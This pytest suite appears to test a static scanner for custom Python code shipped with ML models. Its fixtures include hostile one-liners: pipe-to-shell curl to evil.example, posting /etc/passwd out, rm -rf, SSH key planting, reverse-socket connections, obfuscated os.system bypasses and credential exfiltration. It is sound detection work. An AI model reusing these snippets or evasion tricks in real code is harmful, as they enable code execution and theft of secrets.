"""Custom code check: auto_map references and ast analysis of shipped Python (never imported)."""

from __future__ import annotations

import base64
import json
import struct
from pathlib import Path

import pytest

from modelaudit.findings import Finding, Severity
from modelaudit.static.base import StaticContext, run_static_checks
from modelaudit.static.custom_code import analyse_source, check_custom_code
from modelaudit.target import inventory

BENIGN_MODELING = '''\
"""A plain custom architecture, the kind trust_remote_code models ship."""
import math
import os

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig


class TinyBlock(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.scale = 1 / math.sqrt(config.hidden_size)

    def forward(self, x):
        return torch.relu(self.proj(x)) * self.scale


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.block = TinyBlock(config)

    def forward(self, x):
        self.eval()
        return self.block(x)

    def save_vocab(self, save_directory):
        path = os.path.join(save_directory, "vocab.txt")
        with open(path, "w", encoding="utf-8") as fh:
            fh.write("a\\n")
'''

BENIGN_CONFIGURATION = '''\
from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=8, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
'''


def _safetensors() -> bytes:
    header = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    return struct.pack("<Q", len(header)) + header + b"\x00" * 4


def _scan(folder: Path) -> list[Finding]:
    return list(check_custom_code(StaticContext(root=folder, files=inventory(folder))))


def _model(folder: Path, *, modeling: str = BENIGN_MODELING, auto_map: dict | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "model.safetensors").write_bytes(_safetensors())
    config = {"model_type": "tiny", "architectures": ["TinyModel"],
              "auto_map": auto_map if auto_map is not None else {
                  "AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel"}}
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "configuration_tiny.py").write_text(BENIGN_CONFIGURATION)
    (folder / "modeling_tiny.py").write_text(modeling)
    return folder


def _by_rule(findings: list[Finding]) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    for f in findings:
        out.setdefault(f.rule_id, []).append(f)
    return out


def test_benign_modeling_file_only_needs_trust_remote_code(tmp_path: Path) -> None:
    findings = _scan(_model(tmp_path))
    assert [(f.rule_id, f.severity) for f in findings] == [
        ("static.custom-code.trust-remote-code", Severity.MEDIUM)]
    assert findings[0].evidence["modules"] == ["configuration_tiny.py", "modeling_tiny.py"]
    json.dumps([f.evidence for f in findings])


def test_folder_without_code_has_no_findings(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(_safetensors())
    (tmp_path / "config.json").write_text('{"model_type": "llama"}')
    assert _scan(tmp_path) == []


def test_process_network_and_filesystem_calls_are_flagged_with_lines(tmp_path: Path) -> None:
    modeling = BENIGN_MODELING + '''
import subprocess as sp
from os import system
import requests
import shutil

def _init_hook():
    sp.Popen(["sh", "-c", "id"])
    system("curl evil.example | sh")
    requests.post("https://evil.example/x", data=open("/etc/passwd").read())
    shutil.rmtree("/home")
    open("/root/.ssh/authorized_keys", "a").write("ssh-rsa AAA")
'''
    findings = _scan(_model(tmp_path, modeling=modeling))
    rules = _by_rule(findings)
    base = BENIGN_MODELING.count("\n")
    proc = {(f.evidence["name"], f.location.line, f.severity) for f in rules["static.custom-code.process-exec"]}
    assert proc == {("subprocess.Popen", base + 8, Severity.CRITICAL), ("os.system", base + 9, Severity.CRITICAL)}
    (net,) = rules["static.custom-code.network"]
    assert (net.evidence["name"], net.location.line, net.severity) == ("requests.post", base + 10, Severity.HIGH)
    fs = {(f.evidence["name"], f.location.line, f.severity) for f in rules["static.custom-code.filesystem"]}
    assert fs == {("shutil.rmtree", base + 11, Severity.CRITICAL), ("open", base + 12, Severity.CRITICAL)}
    assert all(f.location.path == "modeling_tiny.py" and f.evidence["runs_on_load"] for f in findings
               if f.rule_id != "static.custom-code.trust-remote-code")


def test_base64_payload_passed_to_exec_is_critical_and_decoded(tmp_path: Path) -> None:
    payload = base64.b64encode(b"import os\nos.system('id')\n").decode()
    modeling = f'import base64\nblob = base64.b64decode("{payload}")\nexec(blob)\nexec(base64.b64decode("{payload}"))\n'
    findings = _scan(_model(tmp_path, modeling=modeling))
    rules = _by_rule(findings)
    dyn = sorted((f.location.line, f.severity) for f in rules["static.custom-code.dynamic-exec"])
    assert dyn == [(3, Severity.CRITICAL), (4, Severity.CRITICAL)]
    # the decoded payload itself was parsed (not run) and its os.system call reported
    inner = [f for f in rules["static.custom-code.process-exec"] if f.evidence.get("inside") == "exec payload"]
    assert inner and inner[0].evidence["name"] == "os.system"


@pytest.mark.parametrize("snippet, rule, name", [
    ("eval(input())", "static.custom-code.dynamic-exec", "eval"),
    ("compile(src, 'x', 'exec')", "static.custom-code.dynamic-exec", "compile"),
    ("import importlib\nimportlib.import_module(name)", "static.custom-code.dynamic-exec", "importlib.import_module"),
    ("import builtins\ngetattr(builtins, 'ex' + 'ec')('1')", "static.custom-code.dynamic-exec",
     "getattr(builtins, ...)"),
    ("__builtins__['eval']('1')", "static.custom-code.dynamic-exec", "__builtins__"),
    ("import marshal\ncode = marshal.loads(data)", "static.custom-code.deserialization", "marshal.loads"),
    ("import pickle as p\np.loads(data)", "static.custom-code.deserialization", "pickle.loads"),
    ("import ctypes\nctypes.CDLL('libevil.so')", "static.custom-code.native-code", "ctypes.CDLL"),
    ("import os\nos.execv('/bin/sh', ['sh'])", "static.custom-code.process-exec", "os.execv"),
    ("import pty\npty.spawn('/bin/sh')", "static.custom-code.process-exec", "pty.spawn"),
    ("import socket\ns = socket.create_connection(('1.2.3.4', 4444))", "static.custom-code.network",
     "socket.create_connection"),
    ("import urllib.request\nurllib.request.urlopen('http://x')", "static.custom-code.network",
     "urllib.request.urlopen"),
    ("import httpx\nhttpx.get('http://x')", "static.custom-code.network", "httpx.get"),
    ("import http.client\nhttp.client.HTTPSConnection('x')", "static.custom-code.network",
     "http.client.HTTPSConnection"),
    ("import os\nos.remove(p)", "static.custom-code.filesystem", "os.remove"),
    ("import os\nrun = getattr(os, 'system')", "static.custom-code.process-exec", "os.system"),
    ("import subprocess", "static.custom-code.process-exec", "subprocess"),
])
def test_dangerous_constructs(snippet: str, rule: str, name: str) -> None:
    analysis = analyse_source(snippet + "\n", "m.py")
    assert analysis.error is None
    hits = [(h.rule, h.name) for h in analysis.hits]
    assert (rule, name) in hits


@pytest.mark.parametrize("snippet", [
    "import re\npattern = re.compile('a+')",
    "model.eval()\nself.eval()",
    "import torch\nmodel = torch.compile(model)",
    "import os\nos.path.join(a, b)\nos.makedirs(out, exist_ok=True)",
    "with open(os.path.join(save_directory, 'merges.txt'), 'w') as fh:\n    fh.write(x)",
    "with open('/etc/hosts') as fh:\n    fh.read()",
    "import torch\nstate = torch.load(path, weights_only=True)",
    "import urllib.parse\nurllib.parse.quote('x')",
    "text = s.replace('/', '_')",
    "def exec(x):\n    return x\nexec(1)",
])
def test_benign_constructs_are_not_flagged(snippet: str) -> None:
    analysis = analyse_source(snippet + "\n", "m.py")
    assert analysis.error is None
    assert analysis.hits == []


def test_imports_are_reported_only_without_a_matching_call() -> None:
    hits = analyse_source("import subprocess\nsubprocess.run(['x'])\n", "m.py").hits
    assert [(h.name, h.line, h.severity) for h in hits] == [("subprocess.run", 2, Severity.CRITICAL)]
    hits = analyse_source("import socket\n", "m.py").hits
    assert [(h.rule, h.severity, h.extra) for h in hits] == [
        ("static.custom-code.network", Severity.MEDIUM, {"import": True})]


def test_long_encoded_blob_is_flagged_but_prose_is_not() -> None:
    blob = base64.b64encode(bytes(range(256)) * 2).decode()
    hits = analyse_source(f"DATA = '{blob}'\n", "m.py").hits
    assert [h.rule for h in hits] == ["static.custom-code.obfuscated-blob"]
    prose = " ".join(["word"] * 100)
    assert analyse_source(f"DOC = '{prose}'\n", "m.py").hits == []


def test_cross_repo_reference_is_high(tmp_path: Path) -> None:
    folder = _model(tmp_path, auto_map={"AutoConfig": "configuration_tiny.TinyConfig",
                                        "AutoModelForCausalLM": "evil-org/payload--modeling_evil.EvilModel"})
    rules = _by_rule(_scan(folder))
    (remote,) = rules["static.custom-code.remote-repo"]
    assert remote.severity is Severity.HIGH
    assert remote.evidence == {"repo": "evil-org/payload", "reference": "evil-org/payload--modeling_evil.EvilModel",
                               "module": "modeling_evil.py"}
    assert "static.custom-code.missing-module" not in rules  # code lives elsewhere; reported as remote


def test_missing_module_and_missing_relative_import(tmp_path: Path) -> None:
    folder = _model(tmp_path, auto_map={"AutoModel": "modeling_tiny.TinyModel", "AutoConfig": "gone.GoneConfig"})
    (folder / "configuration_tiny.py").unlink()
    rules = _by_rule(_scan(folder))
    missing = {f.evidence["module"] for f in rules["static.custom-code.missing-module"]}
    assert missing == {"gone.py", "configuration_tiny.py"}
    assert all(f.severity is Severity.MEDIUM for f in rules["static.custom-code.missing-module"])


def test_tokenizer_auto_map_lists_and_malformed_entries(tmp_path: Path) -> None:
    folder = _model(tmp_path)
    (folder / "tokenization_tiny.py").write_text("import os\nos.system('id')\n")
    (folder / "tokenizer_config.json").write_text(json.dumps({"auto_map": {
        "AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None], "AutoProcessor": "no-dot-here"}}))
    rules = _by_rule(_scan(folder))
    trust = {f.location.path for f in rules["static.custom-code.trust-remote-code"]}
    assert trust == {"config.json", "tokenizer_config.json"}
    (bad,) = rules["static.custom-code.invalid-auto-map"]
    assert bad.location.member == "auto_map.AutoProcessor"
    (proc,) = rules["static.custom-code.process-exec"]
    assert proc.location.path == "tokenization_tiny.py" and proc.location.line == 2
    assert proc.evidence["runs_on_load"] is True


def test_unreferenced_python_files_are_still_analysed(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(_safetensors())
    (tmp_path / "helpers").mkdir()
    (tmp_path / "helpers" / "setup_env.py").write_text("import os\nos.system('rm -rf ~')\n")
    (tmp_path / "run").write_text("#!/usr/bin/env python3\nimport subprocess\nsubprocess.call('id')\n")
    (tmp_path / "notes").write_text("#!/bin/sh\necho not python\n")
    findings = _scan(tmp_path)
    assert {(f.rule_id, f.location.path, f.evidence["runs_on_load"]) for f in findings} == {
        ("static.custom-code.process-exec", "helpers/setup_env.py", False),
        ("static.custom-code.process-exec", "run", False)}


def test_syntax_error_and_undecodable_files_become_findings(tmp_path: Path) -> None:
    folder = _model(tmp_path, modeling="def broken(:\n    pass\n")
    (folder / "extra.py").write_bytes(b"x = '\xff\xfe'\n")
    (folder / "nul.py").write_bytes(b"x = 1\x00\n")
    rules = _by_rule(_scan(folder))
    syntax = {f.location.path: f for f in rules["static.custom-code.syntax-error"]}
    assert set(syntax) == {"modeling_tiny.py", "extra.py", "nul.py"}
    assert syntax["modeling_tiny.py"].location.line == 1
    assert syntax["modeling_tiny.py"].evidence["runs_on_load"] is True
    assert "UTF-8" in syntax["extra.py"].message


def test_auto_map_that_is_not_an_object(tmp_path: Path) -> None:
    folder = _model(tmp_path)
    (folder / "config.json").write_text(json.dumps({"auto_map": ["modeling_tiny.TinyModel"]}))
    rules = _by_rule(_scan(folder))
    assert rules["static.custom-code.invalid-auto-map"][0].location.path == "config.json"


def test_registered_and_runs_through_runner(tmp_path: Path) -> None:
    folder = _model(tmp_path, modeling="import os\nos.system('id')\n")
    ctx = StaticContext(root=folder, files=inventory(folder))
    result = run_static_checks(ctx, only=["static.custom-code"])
    assert result.errors == [] and result.coverage.checks_run == ["static.custom-code"]
    assert max(f.severity for f in result.findings) is Severity.CRITICAL


# --------------------------------------------------------------------------------------------------
# Known bypasses (issue 17 item 9): each is code execution and must be at least high.

_AT_LEAST_HIGH = (Severity.HIGH, Severity.CRITICAL)


@pytest.mark.parametrize("snippet, rule, name", [
    ("import posix\nposix.system('id')", "process-exec", "os.system"),
    ("import nt\nnt.system('id')", "process-exec", "os.system"),
    ("from posix import system\nsystem('id')", "process-exec", "os.system"),
    ("import os\ngetattr(os, 'sys' + 'tem')('id')", "process-exec", "os.system"),
    ("import os\ngetattr(os, ''.join(['sys', 'tem']))('id')", "process-exec", "os.system"),
    ("import os\npart = 'tem'\ngetattr(os, f'sys{part}')('id')", "process-exec", "os.system"),
    ("import os\ngetattr(os, 'sys%s' % 'tem')('id')", "process-exec", "os.system"),
    ("import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('id')", "process-exec", "os.system"),
    ("import os\ngetattr(os, 'metsys'[::-1])('id')", "process-exec", "os.system"),
    ("import os\nname = 'sys' + 'tem'\ngetattr(os, name)('id')", "process-exec", "os.system"),
    ("import os\ngetattr(os, chr(115) + 'ystem')('id')", "process-exec", "os.system"),
    ("from os import *\nsystem('id')", "process-exec", "os.system"),
    ("from subprocess import *\ncheck_output(['id'])", "process-exec", "subprocess.check_output"),
    ("import os\nvars(os)['system']('id')", "process-exec", "os.system"),
    ("import os\nos.__dict__['system']('id')", "process-exec", "os.system"),
    ("import sys\nsys.modules['os'].system('id')", "process-exec", "os.system"),
    ("import sys\nsys.modules.get('o' + 's').popen('id')", "process-exec", "os.popen"),
    ("__import__('os').system('id')", "process-exec", "os.system"),
    ("import importlib\nimportlib.import_module('subprocess').run(['id'])", "process-exec", "subprocess.run"),
    ("import pydoc\npydoc.pipepager('x', 'id')", "process-exec", "pydoc.pipepager"),
    ("().__class__.__base__.__subclasses__()", "dynamic-exec", "class-hierarchy traversal"),
    ("''.__class__.__mro__[1].__subclasses__()", "dynamic-exec", "class-hierarchy traversal"),
    ("base = ().__class__.__bases__[0]", "dynamic-exec", "class-hierarchy traversal"),
    ("object.__subclasses__()", "dynamic-exec", "class-hierarchy traversal"),
    ("getattr(x, '__subcla' + 'sses__')()", "dynamic-exec", "class-hierarchy traversal"),
    ("f.__globals__['os'].system('id')", "dynamic-exec", "__globals__"),
    ("g = f.__globals__['__builtins__']", "dynamic-exec", "__builtins__"),
    ("import torch\ntorch.hub.load('someone/repo', 'model')", "dynamic-exec", "torch.hub.load"),
    ("from torch import hub\nhub.load('someone/repo', 'model')", "dynamic-exec", "torch.hub.load"),
    ("import os as o\no.system('id')", "process-exec", "os.system"),
    ("import os\ns = os.system\ns('id')", "process-exec", "os.system"),
    ("from os import system as x\nx('id')", "process-exec", "os.system"),
    ("import os\nrun = getattr(os, 'po' + 'pen')", "process-exec", "os.popen"),
    ("e = eval\ne(src)", "dynamic-exec", "eval"),
    ("import os\nfn = getattr(os, name)\nfn('id')", "dynamic-exec", "getattr(os, ...)"),
    ("import builtins\nbuiltins.__dict__['ex' + 'ec'](src)", "dynamic-exec", "builtins.exec"),
])
def test_known_bypasses_are_high(snippet: str, rule: str, name: str) -> None:
    analysis = analyse_source(snippet + "\n", "m.py")
    assert analysis.error is None
    found = {(h.rule, h.name): h.severity for h in analysis.hits}
    assert found.get((f"static.custom-code.{rule}", name)) in _AT_LEAST_HIGH, found


def test_resolved_alias_call_is_reported_on_the_calling_line() -> None:
    hits = analyse_source("import os\nimport sys\n\nsys.modules['os'].system('id')\n", "m.py").hits
    assert ("os.system", 4, Severity.CRITICAL) in {(h.name, h.line, h.severity) for h in hits}


# --------------------------------------------------------------------------------------------------
# Credentials from the environment in a file that uses the network (item 9, last part).

@pytest.mark.parametrize("snippet", [
    "import os, requests\nrequests.post('https://x.example', data={'t': os.environ.get('HF_TOKEN')})",
    "import os\nimport urllib.request\nkey = os.getenv('AWS_SECRET_ACCESS_KEY')\nurllib.request.urlopen(url + key)",
    "import os, socket\nblob = ';'.join(f'{k}={v}' for k, v in os.environ.items())\n"
    "socket.create_connection(('1.2.3.4', 443)).send(blob.encode())",
    "import os\nimport httpx\nhttpx.post('https://x.example', json=dict(os.environ))",
    "from os import environ\nimport http.client\nfor name in environ:\n    pass\nhttp.client.HTTPSConnection('x')",
    "import os, requests\nNAMES = ['OPENAI_API_KEY', 'GITHUB_TOKEN']\nvals = [os.environ[n] for n in NAMES]\n"
    "requests.get('https://x.example', params={'v': vals})",
])
def test_credential_harvest_with_network_is_exfiltration(snippet: str) -> None:
    hits = analyse_source(snippet + "\n", "m.py").hits
    exfil = [h for h in hits if h.rule == "static.custom-code.credential-exfiltration"]
    assert len(exfil) == 1 and exfil[0].severity is Severity.HIGH
    assert exfil[0].extra["network"]


@pytest.mark.parametrize("snippet", [
    "import os\ntoken = os.environ.get('HF_TOKEN')",  # credentials but no network
    "import os, requests\ncache = os.environ.get('HF_HOME', '~/.cache')\nrequests.get('https://x.example')",
    "import os\nfor key, value in os.environ.items():\n    print(key)",  # whole environment, no network
])
def test_environment_reads_without_exfiltration_path_are_not_exfiltration(snippet: str) -> None:
    hits = analyse_source(snippet + "\n", "m.py").hits
    assert not [h for h in hits if h.rule == "static.custom-code.credential-exfiltration"]


def test_exfiltration_is_a_finding_of_the_check(tmp_path: Path) -> None:
    modeling = BENIGN_MODELING + "import requests\nrequests.post('https://x.example', data=os.environ['HF_TOKEN'])\n"
    rules = _by_rule(_scan(_model(tmp_path, modeling=modeling)))
    (exfil,) = rules["static.custom-code.credential-exfiltration"]
    assert exfil.severity is Severity.HIGH and exfil.location.path == "modeling_tiny.py"
    assert "HF_TOKEN" in exfil.message and exfil.evidence["runs_on_load"] is True


# --------------------------------------------------------------------------------------------------
# Deep nesting (item 10): a parse limit fails closed at high and what can be seen is still reported.

_DEEP = {
    "parentheses": "x = " + "(" * 2500 + "1" + ")" * 2500,
    "unary": "x = " + "-" * 100_000 + "1",
    "sum": "x = " + "+".join(["1"] * 100_000),
    "sum-2500": "x = " + "+".join(["1"] * 2500),
    "attributes-2500": "x = a" + ".b" * 2500,
    "calls-2500": "x = f" + "()" * 2500,
    "indentation": "".join(" " * i + "if x:\n" for i in range(120)) + " " * 120 + "pass",
}


@pytest.mark.parametrize("kind", sorted(_DEEP))
def test_deep_nesting_cannot_hide_dangerous_calls(kind: str) -> None:
    source = ("import os\nos.system('curl x | sh')\n" + _DEEP[kind] + "\nimport subprocess as sp\nsp.run(['id'])\n")
    analysis = analyse_source(source, "m.py")
    seen = {(h.name, h.line, h.severity) for h in analysis.hits}
    after = source.count("\n") - 1
    assert ("os.system", 2, Severity.CRITICAL) in seen
    assert ("subprocess.run", after + 1, Severity.CRITICAL) in seen
    if analysis.error is not None:  # the tree could not be built: the file itself fails closed
        assert analysis.error_rule == "static.custom-code.parse-limit"
        assert analysis.error_severity is Severity.HIGH


def test_parse_limit_is_a_high_finding_with_the_token_hits(tmp_path: Path) -> None:
    folder = _model(tmp_path, modeling="import os\nos.system('id')\n" + _DEEP["parentheses"] + "\n")
    rules = _by_rule(_scan(folder))
    (limit,) = rules["static.custom-code.parse-limit"]
    assert limit.severity is Severity.HIGH and limit.location.path == "modeling_tiny.py"
    assert "nested too deeply" in limit.message
    (proc,) = rules["static.custom-code.process-exec"]
    assert (proc.location.line, proc.severity, proc.evidence["via"]) == (2, Severity.CRITICAL, "tokens")
    assert "static.custom-code.syntax-error" not in rules


def test_syntax_error_still_reports_what_the_tokens_show() -> None:
    source = "from subprocess import run as go\nx = f'{d[\"a\"]}' +\ngo(['id'])\neval(payload)\n"
    analysis = analyse_source(source, "m.py")
    assert analysis.error is not None and analysis.error_rule == "static.custom-code.syntax-error"
    seen = {(h.name, h.line) for h in analysis.hits}
    assert ("subprocess.run", 3) in seen and ("eval", 4) in seen


# --------------------------------------------------------------------------------------------------
# Benign code stays clean.

REALISTIC_MODELING = '''\
# coding=utf-8
"""PyTorch Tiny model, in the style of transformers' modeling files."""
import logging
import math
import os
import sys
from typing import Optional, Tuple

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from transformers.activations import ACT2FN
from transformers.utils import logging as hf_logging

from .configuration_tiny import TinyConfig

logger = hf_logging.get_logger(__name__)
_LOG = logging.getLogger(__name__)
CACHE_DIR = os.environ.get("HF_HOME", os.path.join(os.path.expanduser("~"), ".cache", "huggingface"))
USE_FLASH = os.getenv("TINY_USE_FLASH", "0") == "1"


class TinyRMSNorm(nn.Module):
    def __init__(self, hidden_size, eps=1e-6):
        super().__init__()
        self.weight = nn.Parameter(torch.ones(hidden_size))
        self.variance_epsilon = eps

    def forward(self, hidden_states):
        variance = hidden_states.pow(2).mean(-1, keepdim=True)
        return self.weight * hidden_states * torch.rsqrt(variance + self.variance_epsilon)


class TinyAttention(nn.Module):
    def __init__(self, config: TinyConfig, layer_idx: Optional[int] = None):
        super().__init__()
        self.hidden_size = getattr(config, "hidden_size")
        self.num_heads = config.num_attention_heads
        self.head_dim = self.hidden_size // self.num_heads
        self.act = ACT2FN[config.hidden_act]
        self.q_proj = nn.Linear(self.hidden_size, self.hidden_size, bias=False)
        dtype_name = getattr(config, "torch_dtype", None) or "float32"
        self.dtype_ = getattr(torch, dtype_name)
        for name in ("rope_theta", "attention_dropout"):
            setattr(self, name, getattr(config, name, None))

    def forward(self, hidden_states: torch.Tensor) -> Tuple[torch.Tensor, Optional[torch.Tensor]]:
        q = self.q_proj(hidden_states)
        scores = torch.matmul(q, q.transpose(-1, -2)) / math.sqrt(self.head_dim)
        probs = F.softmax(scores, dim=-1)
        return torch.matmul(probs, q), None


class TinyPreTrainedModel(PreTrainedModel):
    config_class = TinyConfig
    base_model_prefix = "model"

    def _init_weights(self, module):
        std = self.config.initializer_range
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=std)

    @classmethod
    def registered(cls):
        return [c.__name__ for c in cls.__subclasses__()] + [b.__name__ for b in type(cls).__mro__]


class TinyForCausalLM(TinyPreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.norm = TinyRMSNorm(config.hidden_size, eps=config.rms_norm_eps)
        self.attn = TinyAttention(config)
        logger.info("built %s from %s", self.__class__.__name__, CACHE_DIR)
        self.post_init()

    def forward(self, input_ids, **kwargs):
        hidden = self.attn(self.norm(input_ids))[0]
        if kwargs.get("output_attentions"):
            _LOG.warning("output_attentions is not supported")
        return hidden

    def save_extra(self, save_directory):
        os.makedirs(save_directory, exist_ok=True)
        with open(os.path.join(save_directory, "tiny_extra.json"), "w", encoding="utf-8") as fh:
            fh.write("{}")


if "torch.compile" in sys.modules:
    TinyForCausalLM.forward = torch.compile(TinyForCausalLM.forward)
'''

REALISTIC_CONFIGURATION = '''\
"""Tiny model configuration."""
from transformers.configuration_utils import PretrainedConfig
from transformers.utils import logging

logger = logging.get_logger(__name__)


class TinyConfig(PretrainedConfig):
    model_type = "tiny"
    keys_to_ignore_at_inference = ["past_key_values"]
    attribute_map = {"n_embd": "hidden_size", "n_head": "num_attention_heads"}

    def __init__(self, vocab_size=32000, hidden_size=64, num_attention_heads=4, hidden_act="silu",
                 rms_norm_eps=1e-6, rope_scaling=None, **kwargs):
        self.vocab_size = vocab_size
        self.hidden_size = hidden_size
        self.num_attention_heads = num_attention_heads
        self.hidden_act = hidden_act
        self.rms_norm_eps = rms_norm_eps
        self.rope_scaling = rope_scaling
        self._rope_scaling_validation()
        super().__init__(**kwargs)

    def _rope_scaling_validation(self):
        if self.rope_scaling is None:
            return
        for key in ("type", "factor"):
            if getattr(self.rope_scaling, key, None) is None and key not in self.rope_scaling:
                raise ValueError(f"`rope_scaling` must have a `{key}` field")
'''


def test_realistic_modeling_and_configuration_files_have_no_high_finding(tmp_path: Path) -> None:
    folder = _model(tmp_path, modeling=REALISTIC_MODELING)
    (folder / "configuration_tiny.py").write_text(REALISTIC_CONFIGURATION)
    findings = _scan(folder)
    assert [(f.rule_id, f.severity) for f in findings] == [
        ("static.custom-code.trust-remote-code", Severity.MEDIUM)], [f.message for f in findings]


def test_getattr_with_a_computed_name_on_a_plain_object_is_not_high() -> None:
    for snippet in ("value = getattr(config, name)", "value = getattr(config, name, None)(x)",
                    "import torch\ndtype = getattr(torch, config.torch_dtype)"):
        hits = analyse_source(snippet + "\n", "m.py").hits
        assert not [h for h in hits if h.severity in _AT_LEAST_HIGH], hits


@pytest.mark.parametrize("snippet", [
    "import os\nhome = os.environ.get('HF_HOME')\npath = os.path.join(home, 'x')",
    "super().__init__()\nname = self.__class__.__name__",
    "subs = cls.__subclasses__()\nmro = type(self).__mro__",
    "import sys\nsys.modules[__name__] = module",
    "from torch.nn import *\nlayer = Linear(2, 2)",
    "import math\nsqrt = math.sqrt\nsqrt(2)",
    "key = 'sys' + 'tem'\nvalue = config[key]",
])
def test_more_benign_constructs_are_not_flagged(snippet: str) -> None:
    analysis = analyse_source(snippet + "\n", "m.py")
    assert analysis.error is None
    assert analysis.hits == []
